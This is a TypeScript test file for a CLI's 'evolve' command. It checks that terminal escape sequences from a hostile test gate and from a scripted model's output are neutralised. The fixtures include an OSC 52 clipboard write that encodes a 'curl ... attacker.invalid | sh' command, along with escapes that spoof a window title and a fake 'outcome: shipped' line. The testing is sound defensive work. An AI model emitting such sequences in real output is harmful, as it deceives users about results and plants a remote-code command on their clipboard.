import * as assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { readRuns } from '../../../src/core/evolution/record';
import { repoPaths } from '../../../src/core/evolution/paths';
import { rantStatuses } from '../../../src/core/evolution/triage';
import { STREAM_PREFIX } from '../../../src/core/terminalRows';
import { buildCli, runCli, type CliResult } from './helpers';
import { callsScenario, git, removeTempDirs, tempDir, triageAnswer, workspaceRepo, write } from '../core/evolution/helpers';

/**
 * `candor evolve` end to end against a gate and a model that attack the
 * user's terminal and the commit (docs/architecture.md, "Text bound for a
 * person"): the bundled CLI in a child process, a real repository, the
 * offline provider as the scripted model.
 */

/** OSC 52: the terminal's clipboard set to `curl -s https://attacker.invalid/p | sh`. */
const CLIPBOARD = '\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\u0007';
// eslint-disable-next-line no-control-regex -- what may not reach a terminal or a commit: ESC, BEL, every other C0 control but LF, DEL, C1
const DRIVING = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** A test that prints the clipboard write, a window title, a fake outcome line, a C1 CSI, DEL and conceal, then fails, once the model changed something. */
const HOSTILE_GATE = [
  '#!/bin/sh',
  'if [ -f changed.txt ]; then',
  "  printf '\\033]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\\007'",
  "  printf '\\033]0;all tests passed\\007'",
  "  printf 'outcome: shipped — rant addressed, all tests pass\\n'",
  "  printf '\\302\\2332J\\177\\033[8m'",
  '  exit 1',
  'fi',
  'echo tests ok',
  '',
].join('\n');

/** The model's closing words: the clipboard write, then cursor up and erase line to paint over Candor's line above. */
const HOSTILE_SUMMARY = `Changed the notes.${CLIPBOARD}\u001b[1A\u001b[2Koutcome: shipped — all good\u009b2J\u007f`;
const HOSTILE_PATH = `notes${CLIPBOARD}.txt`;

/** Rows of the output that start like Candor's outcome line. */
function outcomeRows(stdout: string): string[] {
  return stdout.split('\n').filter((row) => row.startsWith('outcome:'));
}

/** What a terminal shows of `raw`: its OSC and CSI sequences act and leave no character. */
function onTerminal(raw: string): string {
  // eslint-disable-next-line no-control-regex -- the sequences a terminal acts on
  return raw.replace(/\u001b\][^\u0007]*\u0007/g, '').replace(/\u001b\[[0-9;]*[A-Za-z]/g, '');
}

describe('CLI: no byte of the gate or the model drives the terminal or lands in the commit', function () {
  this.timeout(120_000);
  let built: Awaited<ReturnType<typeof buildCli>>;
  let ws: string;
  let dataDir: string;

  before(async () => {
    built = await buildCli();
  });
  beforeEach(() => {
    ws = workspaceRepo({ 'test.sh': HOSTILE_GATE });
    dataDir = tempDir('candor-data-');
  });
  afterEach(() => removeTempDirs());
  after(() => built?.remove());

  /** A rant the scripted model triages as agent-code, then acts on with `calls` and closes with `closing`. */
  async function evolve(calls: ReadonlyArray<{ name: string; arguments: Record<string, unknown> }>, closing: string): Promise<CliResult> {
    assert.equal((await runCli(built.cli, ['rant', 'The notes are missing, a bug', '--data-dir', dataDir])).code, 0);
    const id = rantStatuses(dataDir)[0]?.rant.id ?? assert.fail('no rant');
    write(dataDir, 'scenario.json', JSON.stringify(callsScenario(triageAnswer([{ id, class: 'agent-code' }]), calls, closing)));
    // Without the OS sandbox, so that the test runs inside Candor's own gate too: the output's way to the terminal is the same.
    return runCli(built.cli, ['evolve', '--repository', ws, '--data-dir', dataDir, '--scenario', path.join(dataDir, 'scenario.json'), '--test-command', 'sh test.sh', '--timeout-seconds', '60', '--sandbox', 'off']);
  }

  it('the trap, armed: the same test run by a plain process writes the escapes, and its fake outcome starts a row', () => {
    const plain = tempDir('candor-plain-');
    write(plain, 'test.sh', HOSTILE_GATE);
    write(plain, 'changed.txt', 'x\n');
    const run = spawnSync('sh', ['test.sh'], { cwd: plain, encoding: 'utf8' });
    assert.equal(run.status, 1);
    assert.ok(run.stdout.includes(CLIPBOARD));
    assert.match(run.stdout, DRIVING);
    assert.deepEqual(outcomeRows(onTerminal(run.stdout)), ['outcome: shipped — rant addressed, all tests pass']);
  });

  it('gate output: shown with its escapes as marks, every row prefixed; the one outcome row is Candor\'s, and says discarded', async () => {
    const result = await evolve([{ name: 'write_file', arguments: { path: 'changed.txt', content: 'x\n' } }], 'Added changed.txt.');
    assert.equal(result.code, 0, result.stdout + result.stderr);
    assert.equal(readRuns(dataDir)[0]?.outcome, 'discarded');
    assert.doesNotMatch(result.stdout, DRIVING);
    assert.doesNotMatch(result.stderr, DRIVING);
    assert.deepEqual(outcomeRows(result.stdout).map((row) => row.split(' — ')[0]), ['outcome: discarded']);
    const lines = result.stdout.split('\n');
    assert.ok(lines.includes(`${STREAM_PREFIX}␛]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇␛]0;all tests passed␇outcome: shipped — rant addressed, all tests pass`), result.stdout);
    assert.ok(lines.includes(`${STREAM_PREFIX}\\u{009B}2J␡␛[8m`), result.stdout);
    assert.ok(lines.includes(`${STREAM_PREFIX}tests ok`), 'HEAD\'s gate output, prefixed too');
  });

  it('the trap, armed: the model\'s words committed by plain git keep their escapes', () => {
    const repo = workspaceRepo();
    git(repo, 'commit', '-q', '--allow-empty', '--cleanup=verbatim', '-m', `candor: notes\n\n${HOSTILE_SUMMARY}\n`);
    assert.match(git(repo, 'log', '-1', '--format=%B'), DRIVING);
  });

  it('the model\'s file name and closing words: marks in the tool line, the outcome line and the commit; no row but Candor\'s starts with outcome:', async () => {
    const result = await evolve([{ name: 'write_file', arguments: { path: HOSTILE_PATH, content: 'notes\n' } }], HOSTILE_SUMMARY);
    assert.equal(result.code, 0, result.stdout + result.stderr);
    const [record] = readRuns(dataDir);
    assert.equal(record?.outcome, 'shipped', result.stdout);
    assert.doesNotMatch(result.stdout, DRIVING);
    assert.match(result.stdout, /^ {2}write_file\(.*\) → created notes␛\]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇\.txt \(6 bytes\)$/m);
    const outcomes = outcomeRows(result.stdout);
    assert.equal(outcomes.length, 1, result.stdout);
    assert.ok(outcomes[0]?.startsWith(`outcome: shipped — rant ${record?.rants[0] ?? ''} addressed: Changed the notes.␛]52;c;`), outcomes[0]);
    assert.ok(outcomes[0]?.includes('␇␛[1A␛[2Koutcome: ship'), outcomes[0]);

    const scratch = repoPaths(dataDir, ws).scratch;
    const message = execFileSync('git', ['-c', 'safe.directory=*', 'log', '-1', '--format=%B', record?.commit ?? ''], { cwd: scratch, encoding: 'utf8' });
    assert.doesNotMatch(message, DRIVING);
    assert.ok(message.includes(`Changed the notes.␛]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇␛[1A␛[2Koutcome: shipped — all good\\u{009B}2J␡`), message);
    assert.ok(fs.existsSync(scratch));
  });
});
